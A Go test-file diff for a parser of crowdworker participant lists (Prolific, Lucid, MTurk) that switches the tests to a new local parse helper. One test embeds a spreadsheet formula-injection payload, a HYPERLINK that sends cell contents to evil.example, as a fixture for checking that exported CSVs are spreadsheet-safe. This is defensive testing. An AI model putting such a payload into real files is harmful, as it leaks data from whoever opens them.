@@ -14,7 +14,7 @@ func TestParseDetectsThePlatformFromTheHeader(t *testing.T) {
 		{"RID\nr1\n", Lucid},
 		{"Participant id\tStatus\nP1\tAPPROVED\n", Prolific}, // tab-separated
 	} {
-		tb, err := Parse(c.text, "")
+		tb, err := parse(c.text, "")
 		if err != nil || tb.Platform != c.want || len(tb.Rows) != 1 {
 			t.Errorf("%q: %v %+v", c.text, err, tb)
 		}
@@ -30,7 +30,7 @@ func TestParseRefusesWithAClearMessage(t *testing.T) {
 		{"Participant id\n\"P1\n", "", "Line 2 could not be read"},
 		{strings.Repeat("x\n", MaxRows+1), "lucid", "more than"},
 	} {
-		_, err := Parse(c.text, c.platform)
+		_, err := parse(c.text, c.platform)
 		if err == nil || !strings.Contains(err.Error(), c.has) {
 			t.Errorf("%.30q: %v, want %q", c.text, err, c.has)
 		}
@@ -38,7 +38,7 @@ func TestParseRefusesWithAClearMessage(t *testing.T) {
 }
 
 func TestClassifyPicksTheBestParticipantOfAnID(t *testing.T) {
-	tb, _ := Parse("W1\nW2\nW1\n", MTurk)
+	tb, _ := parse("W1\nW2\nW1\n", MTurk)
 	res := Classify(tb, []Participant{
 		{UserID: "a", PlatformIDs: map[string]string{"workerId": "W1"}, Stage: "feed"},
 		{UserID: "b", PlatformIDs: map[string]string{"workerId": "W1"}, Stage: "completed", CompletedAt: 5, CompletionCode: "K"},
@@ -64,7 +64,7 @@ func FuzzParse(f *testing.F) {
 	f.Add("rid-1\r\nrid-2\r\n", "lucid")
 	f.Add("Participant id\n\"unterminated\n", "prolific")
 	f.Fuzz(func(t *testing.T, text, platform string) {
-		tb, err := Parse(text, platform)
+		tb, err := parse(text, platform)
 		if err != nil {
 			if _, ok := err.(*InputError); !ok {
 				t.Fatalf("not an InputError: %v", err)
@@ -88,7 +88,7 @@ func FuzzParse(f *testing.F) {
 func TestDownloadsAreSpreadsheetSafe(t *testing.T) {
 	const evil = `=HYPERLINK("https://evil.example/?"&A1,"click")`
 	csvEvil := `"` + strings.ReplaceAll(evil, `"`, `""`) + `"`
-	tb, err := Parse("Submission id,Participant id,Status,Completion code\n"+
+	tb, err := parse("Submission id,Participant id,Status,Completion code\n"+
 		csvEvil+",P1,"+csvEvil+",C0DE\n"+
 		"s2,"+csvEvil+",AWAITING REVIEW,"+csvEvil+"\n", "")
 	if err != nil {
@@ -102,7 +102,7 @@ func TestDownloadsAreSpreadsheetSafe(t *testing.T) {
 	files := []Download{Report(res)}
 	f, _ := PlatformFile(tb, res)
 	files = append(files, f)
-	mt, err := Parse("HITId,AssignmentId,WorkerId,Answer.code,Approve,Reject\nH,A1,"+csvEvil+","+csvEvil+",,\nH,A2,W2,-2,,\n", "")
+	mt, err := parse("HITId,AssignmentId,WorkerId,Answer.code,Approve,Reject\nH,A1,"+csvEvil+","+csvEvil+",,\nH,A2,W2,-2,,\n", "")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -135,4 +135,10 @@ func TestDownloadsAreSpreadsheetSafe(t *testing.T) {
 	if !strings.Contains(files[2].CSV, "\nH,A2,W2,-2,,") {
 		t.Errorf("a plain number changed in the MTurk file:\n%s", files[2].CSV)
 	}
+}
+
+// parse reads a pasted list as the reconcile endpoint does, without a study platform to
+// fall back on.
+func parse(text, platform string) (*Table, error) {
+	return Read(strings.NewReader(text), platform, "")
 }
